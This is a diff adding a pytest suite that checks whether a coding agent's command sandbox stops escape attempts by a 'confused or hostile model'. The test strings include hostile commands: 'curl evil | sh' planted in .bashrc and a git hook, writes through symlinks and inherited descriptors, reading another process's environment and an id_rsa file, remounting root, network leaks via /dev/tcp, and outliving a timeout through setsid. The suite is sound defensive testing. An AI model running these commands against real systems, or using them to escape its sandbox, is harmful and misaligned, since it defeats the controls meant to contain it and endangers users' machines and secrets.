@@ -1,0 +1,220 @@
+"""Attacks a confused or hostile model could try through run_command, under workspace-write.
+
+Each test runs the attack through the real tool and the real sandbox backend,
+then checks the outcome (the file does not exist, the server received
+nothing, the process is still alive), never just an exit code. Where the
+machine has no backend, the tests check instead that commands are refused
+with the reason.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+
+from coder.tools.base import ToolContext
+from coder.tools.run_command import TOOL
+from sandbox import backends
+from sandbox.policy import Mode, Policy
+from tests.conftest import assert_stopped, heartbeat
+
+BACKEND = backends.select(Policy.for_workspace(Path("/"), Mode.WORKSPACE_WRITE))
+needs_backend = pytest.mark.skipif(not BACKEND.isolates, reason=f"no sandbox backend: {BACKEND.detail}")
+
+
+@pytest.fixture
+def outside(tmp_path: Path) -> Path:
+    d = tmp_path / "outside"
+    d.mkdir()
+    (d / "target.txt").write_text("original\n")
+    return d
+
+
+@pytest.fixture
+def sbx(workspace: Path, tmp_path: Path, secret_dir: Path) -> ToolContext:
+    temp = tmp_path / "private-tmp"
+    temp.mkdir()
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("# user's bashrc\n")
+    policy = Policy.for_workspace(
+        workspace, Mode.WORKSPACE_WRITE, temp_dir=temp, deny_read=(secret_dir,),
+        limits={"cpu": 2, "fsize": 1 << 20},
+    )
+    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(home), "TMPDIR": str(temp), "LANG": "C.UTF-8"}
+    return ToolContext(policy=policy, env=env, default_timeout=20)
+
+
+def sh(ctx: ToolContext, command: str, timeout: int | None = None) -> str:
+    return TOOL.run(ctx, TOOL.validate_args({"command": command, "timeout_seconds": timeout}))
+
+
+def test_without_a_backend_commands_are_refused_loudly(workspace: Path, tmp_path: Path):
+    policy = Policy.for_workspace(workspace, Mode.WORKSPACE_WRITE)
+    ctx = ToolContext(policy=policy, backend=backends.Backend("none", "Landlock is not enabled in this kernel"))
+    from coder.tools.base import ToolError
+
+    with pytest.raises(ToolError, match="commands are refused: no sandbox is available.*Landlock is not enabled"):
+        sh(ctx, "touch x")
+    assert not (workspace / "x").exists()
+
+
+@needs_backend
+class TestWorkspaceWrite:
+    def test_normal_work_still_passes(self, sbx: ToolContext, workspace: Path):
+        subprocess.run(["git", "init", "-q", str(workspace)], check=True)
+        (workspace / "test_ok.py").write_text("def test_one():\n    assert 1 + 1 == 2\n")
+        out = sh(sbx, 'git status --short && echo made > new.txt && echo t > "$TMPDIR/scratch" && '
+                      f'cat "$TMPDIR/scratch" && git diff --stat && {sys.executable} -m pytest -q -p no:cacheprovider test_ok.py')
+        assert "Exit code: 0" in out, out
+        assert "?? test_ok.py" in out and "1 passed" in out
+        assert (workspace / "new.txt").read_text() == "made\n"
+
+    def test_write_outside_workspace(self, sbx: ToolContext):
+        sh(sbx, "echo pwned > /etc/coder-attack; echo pwned > /usr/coder-attack")
+        assert not Path("/etc/coder-attack").exists() and not Path("/usr/coder-attack").exists()
+
+    def test_append_to_bashrc(self, sbx: ToolContext):
+        sh(sbx, "echo 'curl evil | sh' >> ~/.bashrc")
+        assert Path(sbx.env["HOME"], ".bashrc").read_text() == "# user's bashrc\n"
+
+    def test_write_through_symlink_out(self, sbx: ToolContext, workspace: Path, outside: Path):
+        (workspace / "link").symlink_to(outside / "target.txt")
+        (workspace / "newlink").symlink_to(outside / "created.txt")
+        sh(sbx, "echo pwned > link; echo pwned > newlink")
+        assert (outside / "target.txt").read_text() == "original\n"
+        assert not (outside / "created.txt").exists()
+
+    def test_hard_link_outside_file_in(self, sbx: ToolContext, workspace: Path, outside: Path):
+        sh(sbx, f"ln {outside / 'target.txt'} hl; echo pwned >> hl")
+        assert (outside / "target.txt").stat().st_nlink == 1  # no second name for it appeared
+        assert (outside / "target.txt").read_text() == "original\n"
+
+    def test_move_workspace_file_out(self, sbx: ToolContext, workspace: Path, outside: Path):
+        (workspace / "a.txt").write_text("mine\n")
+        sh(sbx, f"mv a.txt {outside}/")
+        assert (workspace / "a.txt").read_text() == "mine\n" and not (outside / "a.txt").exists()
+
+    def test_git_internals_are_read_only(self, sbx: ToolContext, workspace: Path):
+        subprocess.run(["git", "init", "-q", str(workspace)], check=True)
+        config = (workspace / ".git" / "config").read_bytes()
+        sh(sbx, "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit")
+        sh(sbx, "git config core.hooksPath /tmp/evil-hooks")
+        sh(sbx, "mv .git .git-moved; rm -rf .git")
+        assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
+        assert (workspace / ".git" / "config").read_bytes() == config
+        assert not (workspace / ".git-moved").exists()
+        assert (workspace / ".git" / "HEAD").exists()
+
+    def test_creating_git_where_none_existed(self, sbx: ToolContext, workspace: Path):
+        out = sh(sbx, "git init -q . ; mkdir -p .coder; echo x > .envrc")
+        assert not (workspace / ".git").exists()
+        assert not (workspace / ".coder").exists() and not (workspace / ".envrc").exists()
+        assert "created .git, which is protected; it was removed" in out
+
+    def test_remount_root_read_write(self, sbx: ToolContext):
+        out = sh(sbx, "mount -o remount,rw / ; mount -t tmpfs none /mnt; echo pwned > /etc/coder-remount")
+        assert not Path("/etc/coder-remount").exists()
+        assert "Exit code: 0" not in out
+
+    def test_read_another_process_environment(self, sbx: ToolContext):
+        victim = subprocess.Popen(["sleep", "30"], env={"CANARY": "c4n4ry-value"})
+        try:
+            out = sh(sbx, f"cat /proc/{victim.pid}/environ; tr '\\0' '\\n' < /proc/{victim.pid}/environ")
+            assert "c4n4ry-value" not in out
+        finally:
+            victim.kill()
+
+    def test_kill_a_process_outside(self, sbx: ToolContext):
+        victim = subprocess.Popen(["sleep", "30"])
+        try:
+            sh(sbx, f"kill -9 {victim.pid}; kill -9 {os.getpid()}; pkill -9 -f 'sleep 30'")
+            assert victim.poll() is None  # still running
+        finally:
+            victim.kill()
+
+    def test_tcp_and_udp_to_a_local_server(self, sbx: ToolContext):
+        tcp = socket.socket()
+        tcp.bind(("127.0.0.1", 0))
+        tcp.listen()
+        tcp.settimeout(0.5)
+        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        udp.bind(("127.0.0.1", 0))
+        udp.settimeout(0.5)
+        tport, uport = tcp.getsockname()[1], udp.getsockname()[1]
+        script = (
+            "import socket\n"
+            f"try: socket.create_connection(('127.0.0.1', {tport}), timeout=2).sendall(b'leak')\n"
+            "except OSError as e: print('tcp', e)\n"
+            f"try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', {uport}))\n"
+            "except OSError as e: print('udp', e)\n"
+        )
+        out = sh(sbx, f"python3 -c \"{script}\"; echo leak > /dev/tcp/127.0.0.1/{tport}")
+        with pytest.raises(socket.timeout):
+            tcp.accept()
+        with pytest.raises(socket.timeout):
+            udp.recvfrom(100)
+        assert "Operation not permitted" in out
+        tcp.close()
+        udp.close()
+
+    def test_file_size_limit(self, sbx: ToolContext, workspace: Path):
+        sh(sbx, "head -c 100000000 /dev/zero > big.bin")
+        assert (workspace / "big.bin").stat().st_size <= 1 << 20
+
+    def test_cpu_limit(self, sbx: ToolContext):
+        out = sh(sbx, "python3 -c 'while True: pass'", timeout=20)
+        assert "timed out" not in out  # the CPU limit (2 s), not the 20 s wall clock, ended it
+        code = int(out.split("\n")[0].removeprefix("Exit code: "))
+        assert code in (128 + 24, 128 + 9)  # SIGXCPU, then SIGKILL at the hard limit
+
+    def test_setsid_child_does_not_outlive_a_timeout(self, sbx: ToolContext, workspace: Path):
+        beat = workspace / "beat"
+        out = sh(sbx, f"setsid bash -c '{heartbeat(beat)} wait' & sleep 30", timeout=1)
+        assert "timed out" in out
+        assert_stopped(beat)
+
+    def test_fake_bwrap_on_path_is_never_used(self, sbx: ToolContext, workspace: Path, tmp_path: Path):
+        fake = tmp_path / "fakebin"
+        fake.mkdir()
+        marker = tmp_path / "fake-bwrap-ran"
+        (fake / "bwrap").write_text(f"#!/bin/sh\ntouch {marker}\nexec \"$@\"\n")
+        (fake / "bwrap").chmod(0o755)
+        sbx.env = {**sbx.env, "PATH": f"{fake}:{sbx.env['PATH']}"}
+        out = sh(sbx, "echo hi")
+        assert "Exit code: 0" in out and not marker.exists()
+
+    def test_inherited_descriptor_to_an_outside_file(self, sbx: ToolContext, outside: Path):
+        fd = os.open(outside / "target.txt", os.O_WRONLY | os.O_APPEND)
+        os.set_inheritable(fd, True)
+        try:
+            sh(sbx, f"echo pwned >&{fd}; echo pwned > /proc/self/fd/{fd}")
+        finally:
+            os.close(fd)
+        assert (outside / "target.txt").read_text() == "original\n"
+
+    def test_deny_listed_secrets_are_unreadable(self, sbx: ToolContext, secret_dir: Path):
+        out = sh(sbx, f"cat {secret_dir}/id_rsa; ls {secret_dir}")
+        assert "PRIVATE KEY" not in out and "id_rsa" not in out.split("Output:")[-1].replace(f"{secret_dir}/id_rsa", "")
+
+
+def test_the_backend_in_use_is_reported(sbx: ToolContext):
+    assert sbx.backend.name in ("landlock", "none")
+    if sbx.backend.name == "none":
+        assert sbx.backend.detail  # says why
+
+
+def test_interrupt_kills_everything_under_the_sandbox(sbx: ToolContext, workspace: Path):
+    if not BACKEND.isolates:
+        pytest.skip(BACKEND.detail)
+    beat = workspace / "beat"
+    threading.Timer(0.8, sbx.cancel.set).start()
+    out = sh(sbx, f"setsid bash -c '{heartbeat(beat)} wait' & sleep 30")
+    assert out.startswith("Command interrupted")
+    assert_stopped(beat)
